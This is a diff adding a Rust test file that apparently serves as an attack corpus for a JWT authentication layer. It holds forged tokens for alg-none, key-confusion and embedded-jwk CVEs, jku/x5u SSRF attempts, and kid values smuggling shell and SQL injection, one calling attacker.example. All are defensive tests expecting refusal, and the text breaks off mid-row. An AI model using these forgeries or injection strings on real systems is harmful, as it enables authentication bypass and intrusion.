@@ -1,0 +1,1621 @@
+//! The attack corpus: every attack class of the security checklist
+//! (`shared/SECURITY-CHECKLIST.md`) as one table, organised by the checklist's sections, one row
+//! per attack, named after the attack and its CVE or RFC section where one exists.
+//!
+//! Each row is one HTTP request sent with `tower::ServiceExt::oneshot` through an axum `Router`
+//! carrying `auth.layer()`; the row states the status and the exact `WWW-Authenticate` answer
+//! (so the `error=` code and `error_description` too). Rows against a remote key set also state
+//! how many fetches they may cause on the identity provider's loopback JWKS server, and the
+//! attacker's loopback server (named by `jku` / `x5u` / discovery) must never be asked anything.
+//!
+//! Checks over the whole table ("Always" in the checklist): no answer is a 500; refusals have an
+//! empty body; no answer echoes the token or a key id the server does not publish; the
+//! `tracing` output of the whole run (every level) never holds a token or a secret.
+//!
+//! Everything runs on one current-thread runtime; every server is on 127.0.0.1.
+#![cfg(feature = "remote")]
+
+mod common;
+#[path = "support/jwks_server.rs"]
+mod jwks_server;
+
+use std::io::Write;
+use std::sync::{Arc, Mutex};
+use std::time::{Duration, Instant};
+
+use aws_lc_rs::hmac;
+use aws_lc_rs::rsa::PublicKeyComponents;
+use aws_lc_rs::signature::{Ed25519KeyPair, KeyPair};
+use axum::Router;
+use axum::body::Body;
+use axum::routing::get;
+use common::*;
+use http::{HeaderValue, Request, StatusCode, header};
+use jwks_server::{Behaviour, JwksServer};
+use jwt_layer::keys::{Jwks, KeyError, RemoteJwks, StaticKeys, VerifyingKey};
+use jwt_layer::{Algorithm, Claims, JwtAuth, RequireScope, TrustedIssuer};
+use serde_json::{Value, json};
+use tower::ServiceExt;
+
+// ---------------------------------------------------------------------------------------------
+// The apps under attack.
+
+/// Which configuration a row is sent to.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Target {
+    /// Every test key (HMAC, RSA, P-256, P-384, Ed25519) from a static JWKS.
+    Static,
+    /// `Static` with `dangerous_token_query_parameter("access_token")`.
+    StaticWithQuery,
+    /// One RSA key, published with `alg: RS256`.
+    PinnedRs256,
+    /// `Static` with `require_type("at+jwt")`.
+    TypeAtJwt,
+    /// A remote JWKS (the IdP's loopback server): every test key plus an `enc`-only RSA key.
+    Remote,
+    /// Two trusted issuers: `ISSUER` with a remote JWKS (its own loopback server),
+    /// `OTHER_ISSUER` with a static HMAC secret.
+    Issuers,
+    /// A remote JWKS whose server refuses connections: no key set was ever fetched.
+    NeverFetched,
+    /// OIDC discovery whose document names another issuer.
+    DiscoveryMismatch,
+}
+
+const OTHER_ISSUER: &str = "https://other-issuer.test";
+const OTHER_SECRET: &[u8] = b"other-issuer-secret-other-issuer-secret-!!";
+
+struct Apps {
+    routers: Vec<(Target, Router)>,
+    /// The identity provider's JWKS server behind `Target::Remote`.
+    idp: JwksServer,
+    /// The JWKS server of the `Issuers` target's first issuer.
+    issuer_idp: JwksServer,
+    /// Serves a discovery document that names another issuer.
+    discovery: JwksServer,
+    /// The attacker's server: named by `jku`, `x5u`, `jwk` URLs; must never be asked.
+    attacker: JwksServer,
+}
+
+impl Apps {
+    fn router(&self, target: Target) -> Router {
+        self.routers.iter().find(|(t, _)| *t == target).unwrap().1.clone()
+    }
+
+    /// Fetches made so far by the crate to every identity-provider server.
+    fn idp_fetches(&self) -> u64 {
+        self.idp.fetches() + self.issuer_idp.fetches() + self.discovery.fetches()
+    }
+}
+
+async fn me(Claims(claims): Claims<Value>) -> String {
+    claims["sub"].as_str().unwrap_or_default().to_owned()
+}
+
+async fn ok() -> &'static str {
+    "ok"
+}
+
+fn router(auth: JwtAuth<Value>) -> Router {
+    Router::new()
+        .route("/me", get(me).post(me))
+        .route("/admin", get(ok).route_layer(RequireScope::all(["admin"])))
+        .layer(auth.layer())
+}
+
+fn builder() -> jwt_layer::JwtAuthBuilder<Value> {
+    JwtAuth::builder().issuer(ISSUER).audience(AUDIENCE)
+}
+
+/// The RSA test key as a JWK with `use: enc` (kid `enc-rsa`): published, never for signatures.
+fn enc_only_rsa_jwk() -> Value {
+    let rsa = PublicKeyComponents::<Vec<u8>>::from(keys().rsa.public_key());
+    json!({"kty":"RSA","kid":"enc-rsa","use":"enc","alg":"RS256","n": b64(&rsa.n),"e": b64(&rsa.e)})
+}
+
+fn rs256_only_jwk() -> Value {
+    jwks()["keys"].as_array().unwrap().iter().find(|k| k["alg"] == "RS256").cloned().unwrap()
+}
+
+async fn apps() -> Apps {
+    let mut idp_document = jwks();
+    idp_document["keys"].as_array_mut().unwrap().push(enc_only_rsa_jwk());
+    let idp = JwksServer::start(Behaviour::json(idp_document)).await;
+    let issuer_idp = JwksServer::start(Behaviour::json(jwks())).await;
+    let attacker = JwksServer::start(Behaviour::json(json!({"keys": [attacker_jwk()]}))).await;
+    let discovery = JwksServer::start(Behaviour::json(Value::Null)).await;
+    // The document names another issuer, with a jwks_uri that would work.
+    discovery.set(|b| {
+        b.payload = jwks_server::Payload::Json(
+            json!({"issuer": "https://evil.example", "jwks_uri": issuer_idp.url()}),
+        )
+    });
+    // A port that was just free: bound, then released.
+    let dead_url = {
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        format!("http://{}/jwks.json", listener.local_addr().unwrap())
+    };
+
+    let static_keys = || Jwks::from_json(&jwks().to_string()).unwrap();
+    let remote = |url: &str| {
+        RemoteJwks::builder(url)
+            .cooldown(Duration::from_secs(60))
+            .timeout(Duration::from_secs(2))
+            .build()
+            .unwrap()
+    };
+
+    let idp_keys = remote(&idp.url());
+    idp_keys.refresh().await.expect("warm-up fetch of the IdP's key set");
+    let issuer_keys = remote(&issuer_idp.url());
+    issuer_keys.refresh().await.expect("warm-up fetch of the first issuer's key set");
+
+    let discovery_keys = RemoteJwks::discover_builder(format!("http://{}", discovery.addr()))
+        .timeout(Duration::from_secs(2))
+        .build()
+        .unwrap();
+
+    let routers = vec![
+        (Target::Static, router(builder().keys(static_keys()).build().unwrap())),
+        (
+            Target::StaticWithQuery,
+            router(
+                builder()
+                    .keys(static_keys())
+                    .dangerous_token_query_parameter("access_token")
+                    .build()
+                    .unwrap(),
+            ),
+        ),
+        (
+            Target::PinnedRs256,
+            router(
+                builder()
+                    .keys(
+                        StaticKeys::new([
+                            VerifyingKey::from_jwk(&rs256_only_jwk().to_string()).unwrap()
+                        ])
+                        .unwrap(),
+                    )
+                    .build()
+                    .unwrap(),
+            ),
+        ),
+        (
+            Target::TypeAtJwt,
+            router(builder().keys(static_keys()).require_type("at+jwt").build().unwrap()),
+        ),
+        (Target::Remote, router(builder().keys(idp_keys).build().unwrap())),
+        (
+            Target::Issuers,
+            router(
+                JwtAuth::builder()
+                    .trusted_issuer(TrustedIssuer::new(ISSUER, issuer_keys).audience(AUDIENCE))
+                    .trusted_issuer(
+                        TrustedIssuer::new(OTHER_ISSUER, StaticKeys::hmac(OTHER_SECRET).unwrap())
+                            .audience(AUDIENCE),
+                    )
+                    .build()
+                    .unwrap(),
+            ),
+        ),
+        (Target::NeverFetched, router(builder().keys(remote(&dead_url)).build().unwrap())),
+        (Target::DiscoveryMismatch, router(builder().keys(discovery_keys).build().unwrap())),
+    ];
+    Apps { routers, idp, issuer_idp, discovery, attacker }
+}
+
+// ---------------------------------------------------------------------------------------------
+// Tokens.
+
+fn attacker_key() -> &'static Ed25519KeyPair {
+    static KEY: std::sync::OnceLock<Ed25519KeyPair> = std::sync::OnceLock::new();
+    KEY.get_or_init(|| Ed25519KeyPair::generate().unwrap())
+}
+
+fn attacker_jwk() -> Value {
+    json!({"kty":"OKP","crv":"Ed25519","alg":"EdDSA","kid":"attacker",
+           "x": b64(attacker_key().public_key().as_ref())})
+}
+
+/// `header.payload` signed with the attacker's Ed25519 key.
+fn attacker_signed(header: &Value, claims: &Value) -> String {
+    let input = format!("{}.{}", b64(header.to_string()), b64(claims.to_string()));
+    format!("{input}.{}", b64(attacker_key().sign(input.as_bytes()).as_ref()))
+}
+
+/// `header.payload` with an HMAC-SHA256 tag made with `secret`.
+fn hs256_with(secret: &[u8], header: &str, claims: &str) -> String {
+    let input = format!("{}.{}", b64(header), b64(claims));
+    let tag = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, secret), input.as_bytes());
+    format!("{input}.{}", b64(tag.as_ref()))
+}
+
+/// header.payload.signature from raw parts (the signature segment as given).
+fn unsigned(header: &str, claims: &Value, signature: &str) -> String {
+    format!("{}.{}.{}", b64(header), b64(claims.to_string()), signature)
+}
+
+fn claims_with(edit: impl FnOnce(&mut serde_json::Map<String, Value>)) -> Value {
+    let mut claims = good_claims();
+    edit(claims.as_object_mut().unwrap());
+    claims
+}
+
+/// A token signed by the test key of `alg`, with header `{alg, kid}` plus `extra` members.
+fn signed(alg: Algorithm, kid: Option<&str>, extra: Value, claims: &Value) -> String {
+    let mut header = json!({"alg": alg.as_str()});
+    if let Some(kid) = kid {
+        header["kid"] = json!(kid);
+    }
+    for (name, value) in extra.as_object().unwrap() {
+        header[name] = value.clone();
+    }
+    mint_raw(alg, &header.to_string(), &claims.to_string())
+}
+
+fn good(alg: Algorithm) -> String {
+    mint(alg, &good_claims())
+}
+
+fn replace_segment(token: &str, index: usize, segment: &str) -> String {
+    let mut parts: Vec<&str> = token.split('.').collect();
+    parts[index] = segment;
+    parts.join(".")
+}
+
+fn flip_last_char(segment: &str) -> String {
+    let mut bytes = segment.as_bytes().to_vec();
+    let last = bytes.len() - 1;
+    bytes[last] = if bytes[last] == b'A' { b'B' } else { b'A' };
+    String::from_utf8(bytes).unwrap()
+}
+
+/// DER `SEQUENCE { INTEGER r, INTEGER s }` from a fixed `r || s` signature.
+fn der_from_fixed(fixed: &[u8]) -> Vec<u8> {
+    let int = |v: &[u8]| {
+        let v = &v[v.iter().position(|&b| b != 0).unwrap_or(v.len() - 1)..];
+        let pad = v[0] & 0x80 != 0;
+        let mut out = vec![0x02, (v.len() + pad as usize) as u8];
+        if pad {
+            out.push(0);
+        }
+        out.extend_from_slice(v);
+        out
+    };
+    let (r, s) = fixed.split_at(fixed.len() / 2);
+    let body = [int(r), int(s)].concat();
+    [vec![0x30, body.len() as u8], body].concat()
+}
+
+/// An Ed25519 signature with `S` replaced by `S + L` (the group order): the same point
+/// equation holds, so only the RFC 8032 §5.1.7 check `S < L` refuses it (malleability).
+fn ed25519_s_plus_l(signature: &[u8]) -> Vec<u8> {
+    const L: [u8; 32] = [
+        0xed, 0xd3, 0xf5, 0x5c, 0x1a, 0x63, 0x12, 0x58, 0xd6, 0x9c, 0xf7, 0xa2, 0xde, 0xf9, 0xde,
+        0x14, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
+        0x00, 0x10,
+    ];
+    let mut out = signature.to_vec();
+    let mut carry = 0u16;
+    for i in 0..32 {
+        let sum = out[32 + i] as u16 + L[i] as u16 + carry;
+        out[32 + i] = sum as u8;
+        carry = sum >> 8;
+    }
+    assert_eq!(carry, 0);
+    out
+}
+
+/// The last base64url character of a segment whose final sextet carries unused low bits, with
+/// those bits set: decodes to the same bytes under a lenient decoder, refused by a strict one.
+fn non_canonical(segment: &str) -> String {
+    let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
+    let last = *segment.as_bytes().last().unwrap();
+    let value = alphabet.iter().position(|&c| c == last).unwrap();
+    let unused_bits = match segment.len() % 4 {
+        2 => 4,
+        3 => 2,
+        _ => panic!("segment without unused bits"),
+    };
+    let mut out = segment[..segment.len() - 1].to_owned();
+    out.push(alphabet[value | ((1 << unused_bits) - 1)] as char);
+    out
+}
+
+// ---------------------------------------------------------------------------------------------
+// Requests.
+
+fn bearer(token: &str) -> Request<Body> {
+    request("/me", Some(&format!("Bearer {token}")))
+}
+
+fn authorization(value: &str) -> Request<Body> {
+    request("/me", Some(value))
+}
+
+fn authorization_bytes(value: &[u8]) -> Request<Body> {
+    Request::get("/me")
+        .header(header::AUTHORIZATION, HeaderValue::from_bytes(value).unwrap())
+        .body(Body::empty())
+        .unwrap()
+}
+
+// ---------------------------------------------------------------------------------------------
+// The table.
+
+struct Row {
+    section: &'static str,
+    name: &'static str,
+    target: Target,
+    request: Request<Body>,
+    status: StatusCode,
+    /// The exact `WWW-Authenticate` value, or `None` when there must be none.
+    challenge: Option<String>,
+    /// The fetches this row causes on the identity providers' servers, exactly.
+    fetches: u64,
+}
+
+struct Table {
+    section: &'static str,
+    rows: Vec<Row>,
+}
+
+impl Table {
+    fn section(&mut self, name: &'static str) {
+        self.section = name;
+    }
+
+    fn row(
+        &mut self,
+        name: &'static str,
+        target: Target,
+        request: Request<Body>,
+        expected: (StatusCode, Option<String>),
+    ) {
+        self.row_fetching(name, target, request, expected, 0);
+    }
+
+    fn row_fetching(
+        &mut self,
+        name: &'static str,
+        target: Target,
+        request: Request<Body>,
+        (status, challenge): (StatusCode, Option<String>),
+        fetches: u64,
+    ) {
+        assert!(!self.rows.iter().any(|r| r.name == name), "duplicate row name {name}");
+        self.rows.push(Row {
+            section: self.section,
+            name,
+            target,
+            request,
+            status,
+            challenge,
+            fetches,
+        });
+    }
+}
+
+const OK: (StatusCode, Option<String>) = (StatusCode::OK, None);
+
+fn no_credentials() -> (StatusCode, Option<String>) {
+    (StatusCode::UNAUTHORIZED, Some(r#"Bearer realm="api""#.to_owned()))
+}
+
+fn invalid_token(description: &str) -> (StatusCode, Option<String>) {
+    (
+        StatusCode::UNAUTHORIZED,
+        Some(format!(
+            r#"Bearer realm="api", error="invalid_token", error_description="{description}""#
+        )),
+    )
+}
+
+fn invalid_request(description: &str) -> (StatusCode, Option<String>) {
+    (
+        StatusCode::BAD_REQUEST,
+        Some(format!(
+            r#"Bearer realm="api", error="invalid_request", error_description="{description}""#
+        )),
+    )
+}
+
+fn insufficient_scope(scope: &str) -> (StatusCode, Option<String>) {
+    (
+        StatusCode::FORBIDDEN,
+        Some(format!(
+            r#"Bearer realm="api", error="insufficient_scope", error_description="insufficient scope", scope="{scope}""#
+        )),
+    )
+}
+
+#[allow(clippy::too_many_lines)]
+fn table(apps: &Apps) -> Table {
+    use Target::*;
+    let mut t = Table { section: "", rows: Vec::new() };
+    let now = now();
+    let rs256 = good(Algorithm::RS256);
+    let hs256 = good(Algorithm::HS256);
+    let rsa_public_der = keys().rsa.public_key().as_ref().to_vec();
+    let p256_point = keys().p256.public_key().as_ref().to_vec();
+    let ed25519_public = keys().ed25519.public_key().as_ref().to_vec();
+
+    // =========================================================================================
+    t.section("Finding the token (RFC 6750, RFC 7235)");
+    t.row("scheme_lowercase_rfc7235_2_1", Static, authorization(&format!("bearer {hs256}")), OK);
+    t.row("scheme_uppercase_rfc7235_2_1", Static, authorization(&format!("BEARER {hs256}")), OK);
+    t.row("no_authorization_header_rfc6750_3_1", Static, request("/me", None), no_credentials());
+    t.row(
+        "basic_scheme_is_no_bearer_credentials_rfc6750_3_1",
+        Static,
+        authorization("Basic dXNlcjpwYXNzd29yZA=="),
+        no_credentials(),
+    );
+    t.row(
+        "token_under_another_scheme_is_not_read",
+        Static,
+        authorization(&format!("Token {hs256}")),
+        no_credentials(),
+    );
+    t.row(
+        "bearer_without_token_rfc6750_3_1",
+        Static,
+        authorization("Bearer"),
+        invalid_request("bearer scheme without a token"),
+    );
+    t.row(
+        "bearer_with_blank_token_rfc6750_3_1",
+        Static,
+        authorization("Bearer  \t "),
+        invalid_request("bearer scheme without a token"),
+    );
+    t.row(
+        "several_authorization_headers_rfc6750_2",
+        Static,
+        {
+            let mut r = bearer(&hs256);
+            r.headers_mut()
+                .append(header::AUTHORIZATION, format!("Bearer {rs256}").parse().unwrap());
+            r
+        },
+        invalid_request("more than one authorization header"),
+    );
+    t.row(
+        "two_tokens_in_one_header",
+        Static,
+        authorization(&format!("Bearer {hs256} {rs256}")),
+        invalid_request("malformed bearer credentials"),
+    );
+    t.row(
+        "auth_param_smuggled_after_token_rfc7235_2_1",
+        Static,
+        authorization(&format!(r#"Bearer {hs256}, error="none""#)),
+        invalid_request("malformed bearer credentials"),
+    );
+    t.row(
+        "token_outside_b64token_charset_rfc6750_2_1",
+        Static,
+        authorization("Bearer eyJh$bGci.e30.c2ln"),
+        invalid_token("malformed token"),
+    );
+    t.row(
+        "quote_in_token_rfc6750_2_1",
+        Static,
+        authorization(r#"Bearer eyJh"bGci.e30.c2ln"#),
+        invalid_token("malformed token"),
+    );
+    t.row(
+        "obs_text_bytes_in_header_rfc9110_5_5",
+        Static,
+        authorization_bytes(b"Bearer eyJ\xfc\xff.e30.c2ln"),
+        invalid_request("authorization header is not visible ASCII"),
+    );
+    t.row(
+        "b64token_but_not_base64url_chars",
+        Static,
+        authorization("Bearer ab+c/d~e.e30.c2ln"),
+        invalid_token("malformed token"),
+    );
+    t.row(
+        "token_over_the_8_kib_cap_before_decoding",
+        Static,
+        bearer(&format!("{}.{}.{}", "A".repeat(4000), "A".repeat(4000), "A".repeat(400))),
+        invalid_token("token too large"),
+    );
+    t.row(
+        "authorization_header_over_the_cap_refused_before_scanning",
+        Static,
+        authorization(&format!("Bearer {}", "a".repeat(20_000))),
+        invalid_token("token too large"),
+    );
+    t.row(
+        "query_token_ignored_by_default_rfc6750_2_3_rfc9700_4_3_2",
+        Static,
+        request(&format!("/me?access_token={hs256}"), None),
+        no_credentials(),
+    );
+    t.row(
+        "query_token_read_only_when_enabled_rfc6750_2_3",
+        StaticWithQuery,
+        request(&format!("/me?access_token={hs256}"), None),
+        OK,
+    );
+    t.row(
+        "token_in_header_and_query_rfc6750_2",
+        StaticWithQuery,
+        request(&format!("/me?access_token={hs256}"), Some(&format!("Bearer {hs256}"))),
+        invalid_request("token sent in more than one place"),
+    );
+    t.row(
+        "token_twice_in_query",
+        StaticWithQuery,
+        request(&format!("/me?access_token={hs256}&access_token={rs256}"), None),
+        invalid_request("token parameter given more than once"),
+    );
+    t.row(
+        "form_body_token_not_read_rfc6750_2_2",
+        Static,
+        Request::post("/me")
+            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
+            .body(Body::from(format!("access_token={hs256}")))
+            .unwrap(),
+        no_credentials(),
+    );
+    t.row(
+        "error_description_names_no_unpublished_kid",
+        Static,
+        bearer(&signed(
+            Algorithm::HS256,
+            Some("secret-internal-kid-42"),
+            json!({}),
+            &good_claims(),
+        )),
+        invalid_token("no matching key"),
+    );
+    t.row(
+        "scope_missing_is_403_insufficient_scope_rfc6750_3_1",
+        Static,
+        {
+            let mut r = bearer(&hs256);
+            *r.uri_mut() = "/admin".parse().unwrap();
+            r
+        },
+        insufficient_scope("admin"),
+    );
+
+    // =========================================================================================
+    t.section("The JOSE header (RFC 7515, RFC 8725)");
+    for (name, alg) in [
+        ("alg_none_rfc8725_3_1", "none"),
+        ("alg_None_mixed_case_rfc8725_3_1", "None"),
+        ("alg_NONE_upper_case_rfc8725_3_1", "NONE"),
+        ("alg_nOnE_any_casing_rfc8725_3_1", "nOnE"),
+    ] {
+        t.row(
+            name,
+            Static,
+            bearer(&unsigned(&json!({"alg": alg, "kid": "hmac"}).to_string(), &good_claims(), "")),
+            invalid_token("unsupported algorithm"),
+        );
+    }
+    t.row(
+        "alg_none_with_a_signature_rfc8725_3_1",
+        Static,
+        bearer(&replace_segment(&hs256, 0, &b64(r#"{"alg":"none","kid":"hmac"}"#))),
+        invalid_token("unsupported algorithm"),
+    );
+    t.row(
+        "alg_empty_string",
+        Static,
+        bearer(&unsigned(r#"{"alg":"","kid":"hmac"}"#, &good_claims(), "")),
+        invalid_token("unsupported algorithm"),
+    );
+    t.row(
+        "alg_missing_rfc7515_4_1_1",
+        Static,
+        bearer(&mint_raw(Algorithm::HS256, r#"{"kid":"hmac"}"#, &good_claims().to_string())),
+        invalid_token("malformed token"),
+    );
+    t.row(
+        "alg_lowercase_hs256_is_not_HS256_rfc7515_4_1_1",
+        Static,
+        bearer(&mint_raw(
+            Algorithm::HS256,
+            r#"{"alg":"hs256","kid":"hmac"}"#,
+            &good_claims().to_string(),
+        )),
+        invalid_token("unsupported algorithm"),
+    );
+    t.row(
+        "hs256_with_rsa_public_key_as_secret_cve_2016_10555",
+        Static,
+        bearer(&hs256_with(
+            &rsa_public_der,
+            r#"{"alg":"HS256","kid":"rsa"}"#,
+            &good_claims().to_string(),
+        )),
+        invalid_token("algorithm not allowed"),
+    );
+    t.row(
+        "hs256_with_rsa_jwk_as_secret_without_kid_cve_2016_10555",
+        Static,
+        bearer(&hs256_with(
+            rs256_only_jwk().to_string().as_bytes(),
+            r#"{"alg":"HS256"}"#,
+            &good_claims().to_string(),
+        )),
+        invalid_token("invalid signature"),
+    );
+    t.row(
+        "hs256_with_ec_public_key_as_secret_cve_2022_29217",
+        Static,
+        bearer(&hs256_with(
+            &p256_point,
+            r#"{"alg":"HS256","kid":"p256"}"#,
+            &good_claims().to_string(),
+        )),
+        invalid_token("algorithm not allowed"),
+    );
+    t.row(
+        "hs256_with_ed25519_public_key_as_secret_cve_2022_29217",
+        Static,
+        bearer(&hs256_with(
+            &ed25519_public,
+            r#"{"alg":"HS256","kid":"ed25519"}"#,
+            &good_claims().to_string(),
+        )),
+        invalid_token("algorithm not allowed"),
+    );
+    t.row(
+        "hs256_with_rsa_key_as_secret_against_a_pinned_rsa_key_cve_2016_10555",
+        PinnedRs256,
+        bearer(&hs256_with(&rsa_public_der, r#"{"alg":"HS256"}"#, &good_claims().to_string())),
+        invalid_token("no matching key"),
+    );
+    t.row(
+        "oct_key_never_verifies_rs256_rfc8725_3_1",
+        Static,
+        bearer(&signed(Algorithm::RS256, Some("hmac"), json!({}), &good_claims())),
+        invalid_token("algorithm not allowed"),
+    );
+    t.row(
+        "oct_key_never_verifies_es256_rfc8725_3_1",
+        Static,
+        bearer(&signed(Algorithm::ES256, Some("hmac"), json!({}), &good_claims())),
+        invalid_token("algorithm not allowed"),
+    );
+    t.row(
+        "oct_key_never_verifies_eddsa_rfc8725_3_1",
+        Static,
+        bearer(&signed(Algorithm::EdDSA, Some("hmac"), json!({}), &good_claims())),
+        invalid_token("algorithm not allowed"),
+    );
+    t.row(
+        "rsa_key_never_verifies_es256_rfc8725_3_1",
+        Static,
+        bearer(&signed(Algorithm::ES256, Some("rsa"), json!({}), &good_claims())),
+        invalid_token("algorithm not allowed"),
+    );
+    t.row(
+        "p256_key_never_verifies_es384_rfc7518_3_4",
+        Static,
+        bearer(&signed(Algorithm::ES384, Some("p256"), json!({}), &good_claims())),
+        invalid_token("algorithm not allowed"),
+    );
+    t.row(
+        "jwk_pinned_to_rs256_refuses_rs384_rfc8725_2_1",
+        PinnedRs256,
+        bearer(&signed(Algorithm::RS384, Some("rsa"), json!({}), &good_claims())),
+        invalid_token("algorithm not allowed"),
+    );
+    t.row(
+        "jwk_pinned_to_rs256_refuses_ps256_rfc8725_2_1",
+        PinnedRs256,
+        bearer(&signed(Algorithm::PS256, Some("rsa"), json!({}), &good_claims())),
+        invalid_token("algorithm not allowed"),
+    );
+    t.row(
+        "jwk_pinned_to_rs256_accepts_rs256",
+        PinnedRs256,
+        bearer(&signed(Algorithm::RS256, Some("rsa"), json!({}), &good_claims())),
+        OK,
+    );
+    t.row_fetching(
+        "unknown_kid_refreshes_once_rfc7517_4_5",
+        Remote,
+        bearer(&signed(Algorithm::EdDSA, Some("rotated-in-later"), json!({}), &good_claims())),
+        invalid_token("no matching key"),
+        1,
+    );
+    t.row_fetching(
+        "unknown_kid_again_within_the_cooldown_fetches_nothing",
+        Remote,
+        bearer(&signed(Algorithm::EdDSA, Some("another-unknown"), json!({}), &good_claims())),
+        invalid_token("no matching key"),
+        0,
+    );
+    t.row_fetching(
+        "embedded_jwk_cve_2018_0114",
+        Remote,
+        bearer(&attacker_signed(&json!({"alg":"EdDSA","jwk": attacker_jwk()}), &good_claims())),
+        invalid_token("invalid signature"),
+        0,
+    );
+    t.row_fetching(
+        "embedded_jwk_with_its_own_kid_cve_2018_0114",
+        Remote,
+        bearer(&attacker_signed(
+            &json!({"alg":"EdDSA","kid":"attacker","jwk": attacker_jwk()}),
+            &good_claims(),
+        )),
+        invalid_token("no matching key"),
+        0,
+    );
+    t.row_fetching(
+        "jku_to_attacker_server_never_fetched_ssrf",
+        Remote,
+        bearer(&attacker_signed(
+            &json!({"alg":"EdDSA","kid":"attacker","jku": apps.attacker.url()}),
+            &good_claims(),
+        )),
+        invalid_token("no matching key"),
+        0,
+    );
+    t.row_fetching(
+        "jku_with_a_published_kid_never_fetched",
+        Remote,
+        bearer(&attacker_signed(
+            &json!({"alg":"EdDSA","kid":"ed25519","jku": apps.attacker.url()}),
+            &good_claims(),
+        )),
+        invalid_token("invalid signature"),
+        0,
+    );
+    t.row_fetching(
+        "x5u_to_attacker_server_never_fetched_ssrf",
+        Remote,
+        bearer(&attacker_signed(
+            &json!({"alg":"EdDSA","kid":"attacker","x5u": apps.attacker.url()}),
+            &good_claims(),
+        )),
+        invalid_token("no matching key"),
+        0,
+    );
+    t.row_fetching(
+        "x5c_attacker_certificate_never_used_rfc7515_4_1_6",
+        Remote,
+        bearer(&attacker_signed(
+            &json!({"alg":"EdDSA","x5c":[b64(attacker_key().public_key().as_ref())]}),
+            &good_claims(),
+        )),
+        invalid_token("invalid signature"),
+        0,
+    );
+    t.row(
+        "crit_rfc7515_4_1_11",
+        Static,
+        bearer(&signed(
+            Algorithm::HS256,
+            Some("hmac"),
+            json!({"crit":["exp"],"exp":1}),
+            &good_claims(),
+        )),
+        invalid_token("unsupported critical header"),
+    );
+    t.row(
+        "crit_empty_array_rfc7515_4_1_11",
+        Static,
+        bearer(&signed(Algorithm::HS256, Some("hmac"), json!({"crit":[]}), &good_claims())),
+        invalid_token("unsupported critical header"),
+    );
+    t.row(
+        "b64_false_unencoded_payload_rfc7797_3",
+        Static,
+        bearer(&signed(
+            Algorithm::HS256,
+            Some("hmac"),
+            json!({"b64":false,"crit":["b64"]}),
+            &good_claims(),
+        )),
+        invalid_token("unsupported critical header"),
+    );
+    t.row(
+        "b64_false_without_crit_rfc7797_6",
+        Static,
+        bearer(&signed(Algorithm::HS256, Some("hmac"), json!({"b64":false}), &good_claims())),
+        invalid_token("unsupported critical header"),
+    );
+    for (name, kid) in [
+        ("kid_path_traversal_is_only_a_lookup_key", "../../../../../../dev/null"),
+        ("kid_sql_injection_is_only_a_lookup_key", "' UNION SELECT 'secret' --"),
+        ("kid_shell_injection_is_only_a_lookup_key", "$(curl attacker.example)|id;`id`"),
+        ("kid_url_is_only_a_lookup_key", "https://attacker.example/jwks.json"),
+        ("kid_nul_byte_is_only_a_lookup_key", "hmac\u{0}"),
+    ] {
+        t.row(
+            name,
+            Static,
+            bearer(&signed(Algorithm::HS256, Some(kid), json!({}), &good_claims())),
+            invalid_token("no matching key"),
+        );
+    }
+    t.row(
+        "kid_very_long_is_only_a_lookup_key",
+        Static,
+        bearer(&signed(Algorithm::HS256, Some(&"k".repeat(3000)), json!({}), &good_claims())),
+        invalid_token("no matching key"),
+    );
+    t.row(
+        "kid_not_a_string",
+        Static,
+        bearer(&mint_raw(
+            Algorithm::HS256,
+            r#"{"alg":"HS256","kid":{"$ne":null}}"#,
+            &good_claims().to_string(),
+        )),
+        invalid_token("malformed token"),
+    );
+    t.row_fetching(
+        "kid_url_against_a_remote_set_fetches_nothing_from_it",
+        Remote,
+        bearer(&signed(Algorithm::EdDSA, Some(&apps.attacker.url()), json!({}), &good_claims())),
+        invalid_token("no matching key"),
+        0,
+    );
+    t.row(
+        "typ_jwt_when_at_jwt_required_rfc8725_3_11_rfc9068_4",
+        TypeAtJwt,
+        bearer(&signed(Algorithm::ES256, Some("p256"), json!({"typ":"JWT"}), &good_claims())),
+        invalid_token("invalid token type"),
+    );
+    t.row(
+        "typ_missing_when_at_jwt_required_rfc8725_3_11",
+        TypeAtJwt,
+        bearer(&signed(Algorithm::ES256, Some("p256"), json!({}), &good_claims())),
+        invalid_token("invalid token type"),
+    );
+    t.row(
+        "typ_with_trailing_space_rfc8725_3_11",
+        TypeAtJwt,
+        bearer(&signed(Algorithm::ES256, Some("p256"), json!({"typ":"at+jwt "}), &good_claims())),
+        invalid_token("invalid token type"),
+    );
+    t.row(
+        "typ_application_jwt_is_not_at_jwt",
+        TypeAtJwt,
+        bearer(&signed(
+            Algorithm::ES256,
+            Some("p256"),
+            json!({"typ":"application/jwt"}),
+            &good_claims(),
+        )),
+        invalid_token("invalid token type"),
+    );
+    t.row(
+        "typ_any_case_with_application_prefix_rfc7515_4_1_9",
+        TypeAtJwt,
+        bearer(&signed(
+            Algorithm::ES256,
+            Some("p256"),
+            json!({"typ":"Application/AT+JWT"}),
+            &good_claims(),
+        )),
+        OK,
+    );
+    t.row(
+        "duplicate_alg_valid_first_then_none_rfc7515_4_rfc8725_3_2",
+        Static,
+        bearer(&mint_raw(
+            Algorithm::HS256,
+            r#"{"alg":"HS256","kid":"hmac","alg":"none"}"#,
+            &good_claims().to_string(),
+        )),
+        invalid_token("malformed token"),
+    );
+    t.row(
+        "duplicate_alg_none_first_then_valid_rfc7515_4_rfc8725_3_2",
+        Static,
+        bearer(&mint_raw(
+            Algorithm::HS256,
+            r#"{"alg":"none","kid":"hmac","alg":"HS256"}"#,
+            &good_claims().to_string(),
+        )),
+        invalid_token("unsupported algorithm"),
+    );
+    t.row(
+        "duplicate_kid_in_header_rfc7515_4",
+        Static,
+        bearer(&mint_raw(
+            Algorithm::HS256,
+            r#"{"alg":"HS256","kid":"nope","kid":"hmac"}"#,
+            &good_claims().to_string(),
+        )),
+        invalid_token("malformed token"),
+    );
+    t.row(
+        "duplicate_member_nested_in_header_rfc8725_3_2",
+        Static,
+        bearer(&mint_raw(
+            Algorithm::HS256,
+            r#"{"alg":"HS256","kid":"hmac","x":{"a":1,"a":2}}"#,
+            &good_claims().to_string(),
+        )),
